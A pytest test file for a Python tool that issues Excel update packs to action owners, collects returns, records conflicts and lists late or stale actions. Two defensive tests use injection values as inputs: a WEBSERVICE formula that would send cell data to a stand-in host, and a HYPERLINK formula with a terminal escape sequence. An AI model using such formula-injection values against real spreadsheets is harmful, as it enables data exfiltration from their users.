"""Update rounds: packs for each lead, returns collected three ways, the chase list."""

from __future__ import annotations

import json
import shutil
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from improvetrack.files import store
from improvetrack.sheets.packs import COLUMNS, DETAILS, HEADER_ROW, UPDATE, slug
from tests.conftest import Invoke
from tests.packs import OPENED, QA, QA_PACK, VIRTUAL_PACK, fill


@pytest.fixture
def opened(invoke: Invoke, sample: Path) -> Path:
    """The sample plan with a round opened on 2 November 2026; its packs' folder."""
    result = invoke("updates", "request", "--board", "2026-11-26", "--as-of", OPENED)
    assert result.exit_code == 0, result.output
    return sample.parent / "update-packs"


def register_bytes(path: Path) -> bytes:
    return path.read_bytes()


# --- the model ---------------------------------------------------------------------------


def test_rounds_and_stale_after_read_and_write_back(opened: Path, sample: Path) -> None:
    register = store.read(sample).register
    (current,) = register.plan.rounds
    assert (current.opened, current.due, current.board) == (
        date(2026, 11, 2),
        date(2026, 11, 16),  # ten working days on
        date(2026, 11, 26),
    )
    assert [a.owner for a in current.asked][:2] == ["Workforce Development Manager", QA]
    assert register.plan.stale_after is None
    assert store.dumps(register) == sample.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("toml", "said"),
    [
        ("stale_after = 0", "plan.stale_after: 0 is not between 1 and 3660 days"),
        ('stale_after = "a month"', "plan.stale_after: expected a whole number of days"),
        ("rounds = 3", "plan.rounds: expected a list of tables"),
        ("[[plan.rounds]]\nopened = 2026-11-02", "plan.rounds.0.due: missing"),
        (
            "[[plan.rounds]]\nopened = 2026-11-02\ndue = 2026-11-01",
            "plan.rounds.0.due: 2026-11-01 is before the round was opened",
        ),
        (
            "[[plan.rounds]]\nopened = 2026-11-02\ndue = 2026-11-16\n"
            '[[plan.rounds.returns]]\nowner = "A"\non = 2026-11-03\nfile = "x.xlsx"\n'
            'digest = "nope"',
            "plan.rounds.0.returns.0.digest: expected the 64 hex digits",
        ),
    ],
)
def test_bad_rounds_are_named_by_key_path(
    invoke: Invoke, tmp_path: Path, toml: str, said: str
) -> None:
    path = tmp_path / "plan.toml"
    path.write_text(f'schema = 1\n[plan]\ntitle = "P"\n{toml}\n', encoding="utf-8")
    result = invoke("-r", str(path), "status")
    assert result.exit_code == 2
    assert said in result.output


def test_plan_set_stale_after(invoke: Invoke, sample: Path) -> None:
    result = invoke("plan", "set", "--stale-after", "30")
    assert result.exit_code == 0, result.output
    assert "plan.stale_after: (none) → 30" in result.output
    assert store.read(sample).register.plan.stale_after == 30
    refused = invoke("plan", "set", "--stale-after", "0")
    assert refused.exit_code == 2


# --- request -----------------------------------------------------------------------------


def test_request_writes_a_pack_per_owner_of_open_actions(invoke: Invoke, sample: Path) -> None:
    result = invoke("updates", "request", "--as-of", OPENED, "--due", "20/11/2026")
    assert result.exit_code == 0, result.output
    assert "Round opened 2026-11-02: returns due 2026-11-20." in result.output
    # ASM-5 is open with no owner: nobody is asked about it, and the officer is told.
    assert "1 open action with no owner, so nobody is asked about it: ASM-5" in result.output
    packs = sorted(path.name for path in (sample.parent / "update-packs").iterdir())
    assert QA_PACK in packs and VIRTUAL_PACK in packs
    register = store.read(sample).register
    owners = {a.owner for a in register.actions.values() if a.is_open and a.owner}
    assert len(packs) == len(owners)
    assert register.plan.id is not None


def test_a_pack_has_the_columns_locks_lists_and_print_setup(opened: Path, sample: Path) -> None:
    book = load_workbook(opened / VIRTUAL_PACK)
    assert book.sheetnames == [UPDATE, "How to fill this in", DETAILS]
    sheet = book[UPDATE]
    assert "Virtual School Headteacher" in sheet["A2"].value
    assert "16/11/2026" in sheet["A3"].value
    assert tuple(cell.value for cell in sheet[HEADER_ROW]) == COLUMNS
    ids = [sheet.cell(row=r, column=1).value for r in (HEADER_ROW + 1, HEADER_ROW + 2)]
    assert ids == ["EDU-4", "EDU-5"]  # the owner's open actions, in ID order
    assert sheet.protection.sheet is True and not sheet.protection.password
    row = HEADER_ROW + 1
    locked = [sheet.cell(row=row, column=c).protection.locked for c in range(1, 13)]
    assert locked == [True] * 6 + [False] * 6
    assert sheet.cell(row=row, column=7).value == "awaiting-sign-off"
    assert sheet.cell(row=row, column=8).value == "Amber"
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert validations["G7:G8"].type == "list" and "in-progress" in validations["G7:G8"].formula1
    assert validations["H7:H8"].type == "list" and "Amber" in validations["H7:H8"].formula1
    assert validations["K7:K8"].type == "date"
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_rows == "$6:$6"
    assert sheet.column_dimensions["D"].width >= 30  # the action's title, wrapped
    # The twelve columns print on A4 landscape at about two thirds of their size or more.
    widths = sum(sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKL")
    assert widths <= 210 and sheet.page_setup.fitToWidth == 1
    how = book["How to fill this in"]
    assert how.page_setup.fitToWidth == 1 and how.column_dimensions["B"].width <= 75
    assert sheet.cell(row=row, column=4).alignment.wrap_text
    details = book[DETAILS]
    assert details.sheet_state == "hidden"
    facts = {details.cell(row=r, column=1).value: details.cell(row=r, column=2).value
             for r in range(1, 10)}  # fmt: skip
    register = store.read(sample).register
    assert facts["plan"] == register.plan.id
    assert (facts["round"], facts["owner"]) == (OPENED, "Virtual School Headteacher")


def test_request_again_the_same_day_is_the_same_round(
    invoke: Invoke, opened: Path, sample: Path
) -> None:
    result = invoke("updates", "request", "--as-of", OPENED)
    assert result.exit_code == 0, result.output
    assert "Round of 2026-11-02" in result.output
    assert len(store.read(sample).register.plan.rounds) == 1


def test_request_owner_reissues_one_pack_in_the_latest_round(
    invoke: Invoke, opened: Path, sample: Path
) -> None:
    shutil.rmtree(opened)
    result = invoke("updates", "request", "--owner", "  head of QUALITY   assurance ")
    assert result.exit_code == 0, result.output
    assert [path.name for path in opened.iterdir()] == [QA_PACK]
    assert len(store.read(sample).register.plan.rounds) == 1
    # Exact names only: a part of a name is not an owner.
    wrong = invoke("updates", "request", "--owner", "Quality")
    assert wrong.exit_code == 2
    assert "no open action has that owner" in wrong.output


def test_request_owner_needs_a_round(invoke: Invoke, sample: Path) -> None:
    result = invoke("updates", "request", "--owner", QA)
    assert result.exit_code == 2
    assert "no update round yet" in result.output


def test_pack_names_are_ascii_with_a_number_on_a_clash() -> None:
    from improvetrack.sheets.packs import file_names

    assert slug("Directrice, Équipe «Nord»") == "directrice-equipe-nord"
    names = file_names(date(2026, 11, 2), ["A. Smith", "A Smith"])
    assert list(names.values()) == [
        "update-2026-11-02-a-smith.xlsx",
        "update-2026-11-02-a-smith-2.xlsx",
    ]


# --- collect ------------------------------------------------------------------------------


def test_a_return_filled_as_in_excel_is_collected(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    returned = fill(
        opened / VIRTUAL_PACK,
        tmp_path / "Virtual school update FINAL (2).xlsx",
        {
            ("EDU-5", "Status"): "In progress",
            ("EDU-5", "Your RAG"): "green",
            ("EDU-5", "Reason for RAG"): "Attendance data now daily",
            ("EDU-5", "Update"): "Started with the daily data from EDU-3",
            ("EDU-5", "Revised due date"): "31/01/2027",  # typed as text
            ("EDU-5", "Evidence"): "https://example.org/a\nhttps://example.org/b",
            ("EDU-5", "Action"): "A title the lead prefers",  # locked: ignored
        },
        reverse=True,
    )
    dry = invoke("updates", "collect", str(returned), "--dry-run", "--as-of", "2026-11-12")
    assert dry.exit_code == 0, dry.output
    assert "EDU-5 due: 2028-09-30 → 2027-01-31" in dry.output
    assert "Dry run: nothing written." in dry.output
    before = store.read(sample).register
    assert before.actions["EDU-5"].status == "not-started"

    result = invoke("updates", "collect", str(returned), "--as-of", "2026-11-12")
    assert result.exit_code == 0, result.output
    assert "Update!D7 (Action)" in result.output  # the rows were re-ordered: EDU-5 first
    action = store.read(sample).register.actions["EDU-5"]
    assert action.status == "in-progress"
    assert (action.rag, action.rag_reason) == ("green", "Attendance data now daily")
    assert action.due == date(2027, 1, 31)
    assert action.baseline_due != date(2027, 1, 31)  # the baseline stays
    assert action.evidence[-2:] == ["https://example.org/a", "https://example.org/b"]
    assert action.title != "A title the lead prefers"
    assert action.latest_update is not None
    assert action.latest_update.text == "Started with the daily data from EDU-3"
    entries = [entry for entry in action.log if entry.extra.get("source")]
    assert entries and all(e.by == "Virtual School Headteacher" for e in entries)
    assert all(e.user == "tester" for e in entries)
    assert entries[0].extra["source"] == (
        "update return Virtual school update FINAL (2).xlsx (round 2026-11-02)"
    )
    shown = invoke("show", "EDU-5", "--as-of", "2026-11-12")
    assert "from the update return of" in " ".join(shown.output.split())
    (recorded,) = store.read(sample).register.plan.rounds[0].returns
    assert recorded.actions == ["EDU-5", "EDU-4"] or sorted(recorded.actions) == [
        "EDU-4",
        "EDU-5",
    ]
    assert len(recorded.digest) == 64

    # The same return again: nothing changes, not even the file's bytes.
    held = register_bytes(sample)
    again = invoke("updates", "collect", str(returned), "--as-of", "2026-11-13")
    assert again.exit_code == 0, again.output
    assert "already collected" in again.output
    assert register_bytes(sample) == held


def test_both_changed_is_a_conflict_the_register_keeps(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    changed = invoke("update", "ASM-3", "--rag", "amber", "--reason", "Audit late",
                     "--as-of", "2026-11-05")  # fmt: skip
    assert changed.exit_code == 0, changed.output
    returned = fill(
        opened / QA_PACK,
        tmp_path / "qa.xlsx",
        {
            ("ASM-3", "Your RAG"): "Red",
            ("ASM-3", "Reason for RAG"): "No auditors",
            ("ASM-3", "Update"): "Two auditors left",
        },
    )
    result = invoke("updates", "collect", str(returned), "--as-of", "2026-11-12")
    assert result.exit_code == 1, result.output
    assert "conflict: ASM-3 rag: kept the register's 'amber'; the return says 'red'" in (
        result.output
    )
    action = store.read(sample).register.actions["ASM-3"]
    assert action.rag == "amber"
    assert action.latest_update is not None and action.latest_update.text == "Two auditors left"


def test_the_same_change_on_both_sides_is_no_conflict(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    invoke("update", "ASM-3", "--rag", "amber", "--reason", "Audit late", "--as-of", "2026-11-05")
    returned = fill(
        opened / QA_PACK,
        tmp_path / "qa.xlsx",
        {("ASM-3", "Your RAG"): "AMBER", ("ASM-3", "Reason for RAG"): "Audit late"},
    )
    result = invoke("updates", "collect", str(returned), "--as-of", "2026-11-12")
    assert result.exit_code == 0, result.output
    assert "conflict" not in result.output


def test_every_problem_is_listed_and_nothing_written(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    first = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Revised due date"): "soon"})
    second = fill(
        opened / VIRTUAL_PACK,
        tmp_path / "vs.xlsx",
        {("EDU-5", "Status"): "finished", ("EDU-5", "Your RAG"): "red",
         ("EDU-5", "Reason for RAG"): None},
    )  # fmt: skip
    held = register_bytes(sample)
    result = invoke("updates", "collect", str(first), str(second))
    assert result.exit_code == 2
    lines = result.output.splitlines()
    assert (
        "qa.xlsx, Update!K7 (Revised due date): 'soon' is not a date; write 31/01/2027 or "
        "2027-01-31"
    ) in lines
    assert any(line.startswith("vs.xlsx, Update!G8 (Status): 'finished' is not a status")
               for line in lines)  # fmt: skip
    assert any(line.startswith("vs.xlsx, Update!I8 (Reason for RAG)") for line in lines)
    assert lines[-1].startswith("error: 3 problems in the returns; nothing written")
    assert register_bytes(sample) == held


def test_a_pack_of_an_earlier_round_or_another_register_is_refused(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    old = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Late"})
    assert invoke("updates", "request", "--as-of", "2026-12-01").exit_code == 0
    held = register_bytes(sample)
    result = invoke("updates", "collect", str(old), "--as-of", "2026-12-02")
    assert result.exit_code == 2
    assert "round 2026-11-02 is closed; ask for the 2026-12-01 pack" in result.output
    other = tmp_path / "other.toml"
    assert invoke("init", str(other), "--example").exit_code == 0
    refused = invoke("-r", str(other), "updates", "collect", str(old))
    assert refused.exit_code == 2
    assert "an update pack of another register" in refused.output
    assert register_bytes(sample) == held


def test_unknown_rows_are_warned_and_deleted_rows_are_fine(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    book = load_workbook(opened / VIRTUAL_PACK)
    sheet = book[UPDATE]
    sheet.delete_rows(HEADER_ROW + 1)  # EDU-4 taken out
    sheet.cell(row=HEADER_ROW + 2, column=1).value = "ZZZ-9"
    sheet.cell(row=HEADER_ROW + 2, column=10).value = "An action of the lead's own"
    path = tmp_path / "vs.xlsx"
    book.save(path)
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
    assert result.exit_code == 0, result.output
    assert "Update!A8: ID 'ZZZ-9' is not an action of this pack; the row is ignored" in (
        result.output
    )


def test_a_formula_is_read_as_its_value_never_evaluated(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    path = fill(
        opened / QA_PACK,
        tmp_path / "qa.xlsx",
        {("ASM-3", "Update"): '=WEBSERVICE("https://example.invalid/?"&A7)'},
    )
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
    assert result.exit_code == 0, result.output
    action = store.read(sample).register.actions["ASM-3"]
    # openpyxl saves no value for a formula: the cell reads as blank, nothing is added.
    assert all("WEBSERVICE" not in entry.text for entry in action.log)


def test_done_on_a_sign_off_plan_waits_for_sign_off(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    assert invoke("plan", "set", "--require-sign-off").exit_code == 0
    path = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Status"): "Done"})
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
    assert result.exit_code == 0, result.output
    assert store.read(sample).register.actions["ASM-3"].status == "awaiting-sign-off"


def test_a_newly_blocked_action_needs_a_reason(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    path = fill(
        opened / QA_PACK,
        tmp_path / "qa.xlsx",
        {("ASM-3", "Status"): "blocked", ("ASM-3", "Reason for RAG"): None},
    )
    result = invoke("updates", "collect", str(path))
    assert result.exit_code == 2
    assert "ASM-3 is blocked: say what blocks it" in result.output
    path = fill(
        opened / QA_PACK,
        tmp_path / "qa2.xlsx",
        {("ASM-3", "Status"): "blocked", ("ASM-3", "Update"): "No auditors until March"},
    )
    result = invoke("updates", "collect", str(path))
    assert result.exit_code == 0, result.output
    action = store.read(sample).register.actions["ASM-3"]
    assert (action.status, action.blocked_reason) == ("blocked", "No auditors until March")


# --- status -------------------------------------------------------------------------------


def test_status_is_the_chase_list(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    path = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "On track"})
    assert invoke("updates", "collect", str(path), "--as-of", "2026-11-12").exit_code == 0
    result = invoke("updates", "status", "--as-of", "2026-11-20")
    assert result.exit_code == 0, result.output
    assert "1 of 10 leads returned" in result.output
    lines = [line.split() for line in result.output.splitlines()]
    assert ["returned", "2026-11-12", "1", "action", *QA.split()] in lines
    assert "not returned, 4 days past due" in result.output
    data = json.loads(invoke("updates", "status", "--json", "--as-of", "2026-11-20").output)
    leads = {lead["owner"]: lead for lead in data["round"]["leads"]}
    assert leads[QA]["returned_on"] == "2026-11-12"
    assert leads["Participation Manager"] == {
        "owner": "Participation Manager",
        "actions": 1,
        "returned_on": None,
        "files": [],
        "days_late": 4,
    }


def test_status_with_no_round(invoke: Invoke, sample: Path) -> None:
    result = invoke("updates", "status")
    assert result.exit_code == 0
    assert "No update round yet" in result.output


def test_collect_needs_files(invoke: Invoke, sample: Path) -> None:
    assert invoke("updates", "collect").exit_code == 2


# --- stale actions --------------------------------------------------------------------------


def test_stale_actions_are_counted_listed_and_in_json(invoke: Invoke, sample: Path) -> None:
    status = invoke("status")
    assert "2 actions with no update for over 35 days" in " ".join(status.output.split())
    listed = json.loads(invoke("list", "--stale", "--json").output)
    assert [item["id"] for item in listed] == ["ASM-5", "EDU-5"]
    report = json.loads(invoke("report", "--format", "json").output)
    assert report["totals"]["stale"] == 2
    actions = {item["id"]: item for item in report["actions"]}
    assert (actions["ASM-5"]["stale"], actions["ASM-5"]["last_update_on"]) == (True, "2026-10-12")
    # Awaiting sign-off: delivered, never stale, whatever its last update.
    assert actions["EDU-4"]["stale"] is False
    failed = invoke("report", "--fail-on", "stale")
    assert failed.exit_code == 1
    assert "stale (2: ASM-5, EDU-5)" in failed.output
    assert invoke("plan", "set", "--stale-after", "60").exit_code == 0
    assert invoke("report", "--fail-on", "stale").exit_code == 0


def test_a_return_counts_as_an_update_even_when_nothing_changed(
    invoke: Invoke, sample: Path, tmp_path: Path
) -> None:
    assert invoke("updates", "request").exit_code == 0
    pack = sample.parent / "update-packs" / "update-2026-11-27-virtual-school-headteacher.xlsx"
    returned = fill(pack, tmp_path / "as-sent.xlsx", {})
    result = invoke("updates", "collect", str(returned))
    assert result.exit_code == 0, result.output
    assert "no changes" in result.output
    listed = json.loads(invoke("list", "--stale", "--json").output)
    assert [item["id"] for item in listed] == ["ASM-5"]
    actions = json.loads(invoke("report", "--format", "json").output)["actions"]
    assert next(a for a in actions if a["id"] == "EDU-5")["last_update_on"] == "2026-11-27"


def test_the_paper_lists_stale_actions_and_says_who_returned(
    invoke: Invoke, sample: Path, tmp_path: Path
) -> None:
    assert invoke("updates", "request", "--as-of", "2026-11-16").exit_code == 0
    pack = sample.parent / "update-packs" / f"update-2026-11-16-{slug(QA)}.xlsx"
    returned = fill(pack, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Audits on track"})
    assert invoke("updates", "collect", str(returned), "--as-of", "2026-11-20").exit_code == 0
    paper = invoke("report", "--format", "markdown").output
    assert "1 of 10 leads returned their update for the round due 30 November 2026." in paper
    assert "### No update for over 35 days (2)" in paper


def test_the_round_is_in_the_calendar(invoke: Invoke, sample: Path, tmp_path: Path) -> None:
    assert invoke("updates", "request", "--as-of", OPENED).exit_code == 0
    out = tmp_path / "plan.ics"
    assert invoke("report", "--format", "ics", "--output", str(out)).exit_code == 0
    plan_id = store.read(sample).register.plan.id
    text = out.read_text(encoding="utf-8").replace("\r\n ", "")
    assert f"UID:round-{OPENED}.{plan_id}@improvetrack" in text
    assert "DTSTART;VALUE=DATE:20261116" in text


# --- more of the fine print -----------------------------------------------------------------


def test_a_second_return_is_compared_with_the_register_the_first_left(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    first = fill(opened / QA_PACK, tmp_path / "first.xlsx", {("ASM-3", "Update"): "Audit one"})
    assert invoke("updates", "collect", str(first), "--as-of", "2026-11-10").exit_code == 0
    second = fill(
        opened / QA_PACK,
        tmp_path / "second.xlsx",
        {("ASM-3", "Update"): "Audit one", ("ASM-3", "Revised due date"): datetime(2027, 2, 26)},
    )
    result = invoke("updates", "collect", str(second), "--as-of", "2026-11-11")
    assert result.exit_code == 0, result.output
    action = store.read(sample).register.actions["ASM-3"]
    assert action.due == date(2027, 2, 26)  # a real date cell, as Excel saves one
    assert [u.text for u in action.progress_updates].count("Audit one") == 1
    assert len(store.read(sample).register.plan.rounds[0].returns) == 2


def test_a_revised_date_both_sides_moved_is_a_conflict(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    assert invoke("update", "ASM-3", "--due", "2027-03-31", "--as-of", "2026-11-05").exit_code == 0
    path = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Revised due date"): "Feb 27"})
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
    assert result.exit_code == 1, result.output
    assert "conflict: ASM-3 due: kept the register's '2027-03-31'" in result.output
    assert store.read(sample).register.actions["ASM-3"].due == date(2027, 3, 31)


def test_a_round_is_never_opened_before_the_latest(invoke: Invoke, opened: Path) -> None:
    result = invoke("updates", "request", "--as-of", "2026-10-30")
    assert result.exit_code == 2
    assert "a later round was opened on 2026-11-02" in result.output


def test_branches_that_each_opened_a_round_merge_into_both(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    base, ours, theirs = (tmp_path / f"{name}.toml" for name in ("base", "ours", "theirs"))
    for path in (base, ours, theirs):
        shutil.copy(sample, path)
    returned = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Audit one"})
    collected = invoke(
        "-r", str(ours), "updates", "collect", str(returned), "--as-of", "2026-11-10"
    )
    assert collected.exit_code == 0, collected.output
    assert invoke("-r", str(theirs), "updates", "request", "--as-of", "2026-12-01").exit_code == 0
    merged = invoke("merge-driver", str(base), str(ours), str(theirs))
    assert merged.exit_code == 0, merged.output
    rounds = store.read(ours).register.plan.rounds
    assert [item.opened for item in rounds] == [date(2026, 11, 2), date(2026, 12, 1)]
    assert [item.owner for item in rounds[0].returns] == [QA]


def test_a_late_return_is_collected_and_said_to_be_late(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    path = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Sorry: leave"})
    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-20")
    assert result.exit_code == 0, result.output
    assert "qa.xlsx (Head of Quality Assurance), 4 days late: changed 1 field" in result.output
    status = json.loads(invoke("updates", "status", "--json", "--as-of", "2026-11-20").output)
    lead = next(item for item in status["round"]["leads"] if item["owner"] == QA)
    assert (lead["returned_on"], lead["days_late"], lead["files"]) == ("2026-11-20", 0, ["qa.xlsx"])


def test_a_plan_with_no_owned_action_opens_a_round_with_no_packs(
    invoke: Invoke, tmp_path: Path
) -> None:
    path = tmp_path / "empty.toml"
    assert invoke("init", str(path)).exit_code == 0
    result = invoke("-r", str(path), "updates", "request", "--out", str(tmp_path / "packs"))
    assert result.exit_code == 0, result.output
    assert "No packs written: no open action has an owner." in result.output
    assert store.read(path).register.plan.id is not None


def test_register_text_stays_text_in_a_pack_and_back(
    invoke: Invoke, sample: Path, tmp_path: Path
) -> None:
    title = '=HYPERLINK("https://example.invalid","x")\x1b[31m'
    assert invoke("update", "ASM-3", "--title", title).exit_code == 0
    assert invoke("updates", "request").exit_code == 0
    pack = sample.parent / "update-packs" / "update-2026-11-27-head-of-quality-assurance.xlsx"
    sheet = load_workbook(pack)[UPDATE]
    cell = sheet.cell(row=HEADER_ROW + 1, column=4)
    assert cell.data_type == "s" and cell.quotePrefix
    assert "\x1b" not in cell.value
    returned = fill(pack, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Fine"})
    result = invoke("updates", "collect", str(returned))
    assert result.exit_code == 0, result.output
    assert "warning" not in result.output  # the title came back as it went out
    logged = json.loads(invoke("log", "ASM-3", "--json").output)
    assert logged[-1]["source"] == "update return qa.xlsx (round 2026-11-27)"
    assert logged[-1]["by"] == QA and logged[-1]["user"] == "tester"


def test_a_renamed_column_is_refused_not_dropped(
    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
) -> None:
    """A lead who types over the Update header, then an update under it: the update
    cannot be read, so the return is refused rather than collected without it."""
    from openpyxl import load_workbook

    from tests.packs import HEADER_ROW, UPDATE

    filled = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Audit done"})
    book = load_workbook(filled)
    sheet = book[UPDATE]
    header = [cell.value for cell in sheet[HEADER_ROW]]
    sheet.cell(row=HEADER_ROW, column=header.index("Update") + 1).value = "Notes"
    book.save(filled)
    held = register_bytes(sample)
    result = invoke("updates", "collect", str(filled))
    assert result.exit_code == 2
    assert result.output.splitlines()[0] == (
        f"qa.xlsx: sheet 'Update' row {HEADER_ROW}: no column headed 'Update', so what was "
        "typed under it cannot be read; put the pack's header back, or send the lead their "
        "pack again with `improvetrack updates request --owner NAME`"
    )
    assert register_bytes(sample) == held
    chase = json.loads(invoke("updates", "status", "--json").stdout)
    assert chase["round"]["returned"] == 0, chase["round"]
